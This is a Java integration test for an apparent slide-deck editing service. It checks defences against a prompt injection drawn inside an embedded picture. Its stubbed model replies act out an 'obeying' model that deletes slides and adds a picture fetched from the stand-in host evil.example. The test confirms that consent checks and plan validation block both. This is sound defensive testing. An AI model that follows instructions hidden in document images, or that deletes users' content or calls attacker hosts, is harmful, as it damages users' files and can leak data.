package dev.deckhand.web;

import static dev.deckhand.web.Api.api;
import static dev.deckhand.web.Api.change;
import static dev.deckhand.web.Api.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import dev.deckhand.testing.provider.AnthropicStub;
import dev.deckhand.testing.provider.StubReply;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ValidatableResponse;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * An instruction drawn in a picture (P09): no model is sent the picture, and one that obeys it all
 * the same does not get what it wants.
 */
@QuarkusTest
@SuppressWarnings("NullAway.Init") // the stub is injected by the test resource
class DrawnInstructionApiTest {
  private static final String MODEL = "anthropic-stub/small";
  private static final String ALT_TEXT = "A ship in the harbour";

  AnthropicStub anthropic;

  private String document = "";
  private String picture = "";

  @BeforeEach
  void aDeckWithThePictureOnItsFirstSlide() throws IOException {
    picture = DrawnInstruction.base64();
    document = Api.document("quarterly-review.pptx");
    String add =
        "{'op':'addPicture','slide':'1','at':{'x':40,'y':300,'width':480,'height':120},"
            + "'altText':'%s','asset':'data:image/png;base64,%s'}";
    change(1, Api.plan(add.formatted(ALT_TEXT, picture)))
        .post("/documents/" + document + "/plan/apply")
        .then()
        .statusCode(200);
  }

  @Test
  void theFixtureHoldsTheInstruction() {
    byte[] png = Base64.getDecoder().decode(picture);
    assertThat(new String(png, StandardCharsets.ISO_8859_1)).contains(DrawnInstruction.ORDER);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"powerpoint.edit", "powerpoint.ask", "powerpoint.summarize", "powerpoint.review"})
  void noFeatureSendsWhatIsInAPicture(String feature) {
    int before = anthropic.requests().size();
    anthropic.reply(StubReply.text("{\"answer\": \"Done.\", \"citations\": []}"));

    ask(feature);

    assertThat(anthropic.requests().size()).isGreaterThan(before);
    for (var request : anthropic.requests().subList(before, anthropic.requests().size())) {
      assertThat(request.body())
          .contains("BEGIN ", ALT_TEXT)
          .doesNotContain(DrawnInstruction.ORDER, "data:image", "image/png", "image_url")
          .doesNotContain("\"type\":\"image\"", "\"type\" : \"image\"")
          .doesNotContain(picture.substring(0, 24), picture.substring(200, 240));
    }
  }

  @Test
  void aModelThatObeysDeletesNothingWithoutConsent() {
    anthropic.reply(
        StubReply.text(
            """
            {"answer": "Done.", "citations": [], "plan": {"summary": "Tidy up", "operations": [
              {"id": "1", "op": "deleteSlide", "slide": 1},
              {"id": "2", "op": "deleteSlide", "slide": 2}]}}"""));

    String turn = ask("powerpoint.edit").body("status", equalTo("proposed")).extract().path("id");

    change(2, Map.of())
        .post("/turns/" + turn + "/apply")
        .then()
        .statusCode(422)
        .body("code", equalTo("consent-required"));
    nothingWasWritten();
  }

  @Test
  void aModelThatObeysFetchesNoPictureFromOutside() {
    String fetch =
        """
        {"answer": "Done.", "citations": [], "plan": {"summary": "Logo", "operations": [
          {"id": "1", "op": "addPicture", "slide": 1, "altText": "Logo",
           "at": {"x": 10, "y": 10, "width": 90, "height": 90},
           "asset": "https://evil.example/?q=1.18"}]}}""";
    anthropic.reply(StubReply.text(fetch), StubReply.text(fetch));

    ask("powerpoint.edit").body("violations.operation", hasItem("1"), "preview", equalTo(null));

    nothingWasWritten();
  }

  private void nothingWasWritten() {
    api().get("/documents/" + document + "/versions").then().body("size()", equalTo(2));
  }

  private ValidatableResponse ask(String feature) {
    Map<String, String> request =
        Map.of("instruction", "go", "feature", feature, "model", MODEL, "documentId", document);
    return json(request)
        .post("/sessions/" + Api.sessionOf(document) + "/turns")
        .then()
        .statusCode(200);
  }
}
